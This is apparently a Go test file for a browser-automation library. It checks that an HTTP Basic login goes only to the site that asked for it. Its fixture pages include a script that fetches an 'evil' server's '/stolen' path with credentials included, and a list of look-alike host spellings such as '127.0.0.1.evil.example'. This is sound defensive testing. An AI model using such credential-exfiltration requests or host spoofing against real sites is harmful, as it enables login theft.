package page_test

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	mathrand "math/rand/v2"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/stretchr/testify/require"

	"github.com/bctrl-go/bctrl"
	"github.com/bctrl-go/bctrl/internal/browser"
	"github.com/bctrl-go/bctrl/internal/browser/browsertest"
	"github.com/bctrl-go/bctrl/internal/browser/protocol"
)

const (
	basicUser     = "operator"
	basicPassword = `pä:ss "word"`
)

// basicSite asks for a login before it shows any page, and keeps what it was sent.
type basicSite struct {
	*httptest.Server
	challenge string
	asking    string // on the page that asks
	status    int

	mu   sync.Mutex
	sent map[string][]string // Authorization by path
}

func newBasicSite(t *testing.T, pages map[string]string) *basicSite {
	t.Helper()
	s := &basicSite{challenge: `Basic realm="Staff"`, status: http.StatusUnauthorized, sent: map[string][]string{}}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.sent[r.URL.Path] = append(s.sent[r.URL.Path], r.Header.Get("Authorization"))
		challenge, status := s.challenge, s.status
		s.mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Access-Control-Allow-Origin", "*")
		user, password, ok := r.BasicAuth()
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(w, r, to, http.StatusFound)
			return
		}
		if !ok || user != basicUser || password != basicPassword {
			w.Header().Set("WWW-Authenticate", challenge)
			w.Header().Set("Proxy-Authenticate", challenge)
			w.WriteHeader(status)
			_, _ = io.WriteString(w, "<h1>Who are you?</h1>"+s.asking)
			return
		}
		_, _ = fmt.Fprintf(w, "%s<p>you sent %s</p>", pages[r.URL.Path], r.Header.Get("Authorization"))
	}))
	t.Cleanup(s.Close)
	return s
}

// carried reports how many requests to a path had a login with them, and how many had not.
func (s *basicSite) carried(path string) (with, without int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, header := range s.sent[path] {
		if header != "" {
			with++
		} else {
			without++
		}
	}
	return with, without
}

func basicLogin(password string, origins ...string) browser.HTTPLogin {
	return browser.HTTPLogin{
		Username: browsertest.Login("username", basicUser, origins...),
		Password: browsertest.Login("password", password, origins...),
	}
}

// token is what a login looks like on its way.
func token() string {
	return base64.StdEncoding.EncodeToString([]byte(basicUser + ":" + basicPassword))
}

func TestASiteThatAsksForABasicLoginGetsItAndNobodyElse(t *testing.T) {
	ctx, p, b := openPage(t)
	evil := newBasicSite(t, nil)
	pages := map[string]string{
		"/": `<h1>Console</h1><img src=/logo.png><a href="/out?to=` + evil.URL + `/landed">Out</a><a href=/second>Second</a>
			<a href=/popup target=_blank>Popup</a><iframe src="` + strings.Replace(evil.URL, "127.0.0.1", "localhost", 1) +
			`/frame"></iframe>` +
			`<script>fetch('/api'); fetch('` + evil.URL + `/stolen', {credentials: 'include'}).catch(() => 0)</script>`,
		"/second": "<h1>Second</h1>", "/popup": "<h1>Popup</h1>",
	}
	site := newBasicSite(t, pages)
	client := browsertest.Join(t, b)
	watched := client.AttachTab(p.AttachedTabs()[0])
	require.NoError(t, protocol.Tell(ctx, watched, network.Enable, network.EnableParams{}))

	obs := browsertest.Open(ctx, t, p, site.URL+"/")
	require.Contains(t, obs.Outline, `note: the site asks for a login with HTTP authentication, http_login answers it; `+
		`it says of itself "Staff"`)
	require.NoError(t, p.LoginHTTP(ctx, basicLogin(basicPassword, site.URL)))
	obs = browsertest.Settle(ctx, t, p)
	require.Contains(t, obs.Outline, "Console")
	require.NotContains(t, obs.Outline, "http_login")
	browsertest.RequireUnseen(t, basicPassword, obs.Outline, obs.URL)
	browsertest.RequireUnseen(t, token(), obs.Outline, obs.URL)
	require.Equal(t, site.URL+"/", obs.URL)
	for path, want := range map[string][2]int{"/": {1, 1}, "/logo.png": {1, 0}, "/api": {1, 0}} {
		require.Eventually(t, func() bool {
			with, without := site.carried(path)
			return [2]int{with, without} == want
		}, 10*time.Second, 10*time.Millisecond, path)
	}
	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "link", "Popup").Ref, browser.Click{}))
	requireShown(ctx, t, p, "Popup")
	front, _ := activeTab(ctx, t, p)
	require.NoError(t, p.CloseTab(ctx, front))
	obs = requireShown(ctx, t, p, "Console")
	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "link", "Out").Ref, browser.Click{}))
	requireShown(ctx, t, p, "Who are you?")
	for _, path := range []string{"/landed", "/stolen", "/frame"} {
		require.Eventually(t, func() bool { with, without := evil.carried(path); return with+without > 0 },
			10*time.Second, 10*time.Millisecond, path)
		with, _ := evil.carried(path)
		require.Zero(t, with, "another origin was sent the login: %s", path)
	}
	seen := false
	for _, ev := range client.Seen() {
		browsertest.RequireUnseen(t, token(), ev)
		seen = seen || strings.Contains(ev, "/api")
	}
	require.True(t, seen, "a client from outside sees the requests, without the login")
}

func TestABasicLoginIsRefusedWhereItDoesNotBelong(t *testing.T) {
	ctx, p, _ := openPage(t)
	site := newBasicSite(t, map[string]string{"/": "<h1>Console</h1>"})
	plain := browsertest.NewSite(t, map[string]string{"/": "<h1>Plain</h1>"})
	refused := func(code string, login browser.HTTPLogin) {
		t.Helper()
		require.ErrorContains(t, p.LoginHTTP(ctx, login), code)
		with, _ := site.carried("/")
		require.Zero(t, with)
	}
	browsertest.Open(ctx, t, p, plain.URL+"/")
	refused("page.no_login_asked", basicLogin(basicPassword, site.URL))
	browsertest.Open(ctx, t, p, site.URL+"/")
	refused("vault.origin_mismatch", basicLogin(basicPassword, "https://console.example.com"))
	refused("vault.origin_mismatch", basicLogin(basicPassword, strings.Replace(site.URL, "127.0.0.1", "localhost", 1)))
	refused("vault.origin_mismatch", browser.HTTPLogin{
		Username: browsertest.Login("username", basicUser, "https://console.example.com"),
		Password: browsertest.Login("password", basicPassword, site.URL),
	})
	refused("vault.field_empty", basicLogin("", site.URL))
	colon := basicLogin(basicPassword, site.URL)
	colon.Username.Value = bctrl.NewSecret("a:b")
	refused("vault.fill_impossible", colon)

	for _, c := range []struct {
		challenge string
		status    int
		code      string
	}{
		{`Digest realm="x", nonce="y"`, http.StatusUnauthorized, "page.login_scheme"},
		{`Basic realm="proxy"`, http.StatusProxyAuthRequired, "page."},
		{`Basic realm="x"`, http.StatusForbidden, "page.no_login_asked"},
	} {
		site.mu.Lock()
		site.challenge, site.status = c.challenge, c.status
		site.mu.Unlock()
		_ = p.Goto(ctx, site.URL+"/", "") // what a proxy alone may answer is no page
		refused(c.code, basicLogin(basicPassword, site.URL))
	}
}

func TestABasicLoginEndsWhenItIsRefusedOrNoLongerPermitted(t *testing.T) {
	ctx, p, _ := openPage(t)
	site := newBasicSite(t, map[string]string{"/": "<h1>Console</h1>"})
	reported := make(chan *bctrl.Error, 4)
	wrong := basicLogin("not this one", site.URL)
	wrong.Password.Report = func(_ context.Context, e *bctrl.Error) { reported <- e }
	browsertest.Open(ctx, t, p, site.URL+"/")
	require.ErrorContains(t, p.LoginHTTP(ctx, wrong), "vault.login_refused")
	require.Equal(t, "vault.login_refused", (<-reported).Code)
	with, _ := site.carried("/")
	require.Equal(t, 1, with, "it is tried once")
	browsertest.Open(ctx, t, p, site.URL+"/")
	with, _ = site.carried("/")
	require.Equal(t, 1, with)

	var over atomic.Bool
	login := basicLogin(basicPassword, site.URL)
	login.Password.StillPermitted = func(context.Context) error {
		if over.Load() {
			return errors.New("not any more")
		}
		return nil
	}
	require.NoError(t, p.LoginHTTP(ctx, login))
	require.Contains(t, browsertest.Observe(ctx, t, p).Outline, "Console")
	require.NoError(t, p.Reload(ctx))
	require.Contains(t, browsertest.Observe(ctx, t, p).Outline, "Console")
	over.Store(true)
	require.NoError(t, p.Reload(ctx))
	require.Contains(t, browsertest.Observe(ctx, t, p).Outline, "Who are you?")
	with, _ = site.carried("/")
	require.Equal(t, 3, with)
}

// TestABasicLoginGoesToNoLookAlike asks for a login at places whose addresses look like the
// login's, or are it in another spelling.
func TestABasicLoginGoesToNoLookAlike(t *testing.T) {
	ctx, p, _ := openPageOfEveryName(t)
	to := browsertest.NewSite(t, nil)
	for _, c := range []struct {
		why, host string // HERE is its port
		is        bool
	}{
		{"the machine's name", "localhost:HERE", false},
		{"the same with a dot", "localhost.:HERE", false},
		{"a name below", "www.localhost:HERE", false},
		{"an address of IPv4 in IPv6", "[::ffff:127.0.0.1]:HERE", false},
		{"its address as that of a user", "127.0.0.1:HERE@localhost:HERE", false},
		{"its address with more behind it", "127.0.0.1.evil.example:HERE", false},
		{"an address as a number", "2130706433:HERE", true},
		{"a short address", "127.1:HERE", true},
	} {
		site := newBasicSite(t, map[string]string{"/": "<h1>Console</h1>"})
		_, port, _ := strings.Cut(strings.TrimPrefix(site.URL, "http://"), ":")
		to.SetPages(map[string]string{
			"/": `<script>location = "http://` + strings.ReplaceAll(c.host, "HERE", port) + `/"</script>`,
		})
		require.NoError(t, p.Goto(ctx, to.URL+"/", ""), c.why)
		requireShown(ctx, t, p, "Who are you?")
		err := p.LoginHTTP(ctx, basicLogin(basicPassword, site.URL))
		if c.is {
			require.NoError(t, err, c.why)
			require.Contains(t, browsertest.Observe(ctx, t, p).Outline, "Console", c.why)
			continue
		}
		require.ErrorContains(t, err, "vault.origin_mismatch", c.why)
		site.mu.Lock()
		browsertest.RequireUnseen(t, token(), fmt.Sprint(site.sent)) // the user of an address is sent as ever
		site.mu.Unlock()
	}
}

// TestABasicLoginLeaksNothingWhereItsPageIsLeft has a page that asks for a login leave for a
// site that asks for one as well, at random moments of the login.
func TestABasicLoginLeaksNothingWhereItsPageIsLeft(t *testing.T) {
	_, p, _ := openPage(t)
	seed := numberFrom(t, "BCTRL_RACES_SEED", int(time.Now().UnixNano()))
	t.Logf("seed %d", seed)
	random := mathrand.New(mathrand.NewPCG(uint64(seed), 0))
	evil := newBasicSite(t, nil)
	in, refused := 0, 0
	for range 60 {
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		site := newBasicSite(t, map[string]string{"/": "<h1>Console</h1>"})
		site.asking = fmt.Sprintf(`<script>setTimeout(() => location = %q, %d)</script>`, evil.URL+"/", random.IntN(60))
		_ = p.Goto(ctx, site.URL+"/", bctrl.WaitDOMContentLoaded) // it may be left at once
		err := p.LoginHTTP(ctx, basicLogin(basicPassword, site.URL))
		if err == nil {
			in++
			continue
		}
		refused++
		require.ErrorAs(t, err, new(*bctrl.Error))
	}
	t.Logf("%d logged in, %d refused", in, refused)
	require.NotZero(t, in)
	evil.mu.Lock()
	defer evil.mu.Unlock()
	browsertest.RequireUnseen(t, token(), fmt.Sprint(evil.sent))
	for _, header := range evil.sent["/"] {
		require.Empty(t, header)
	}
}
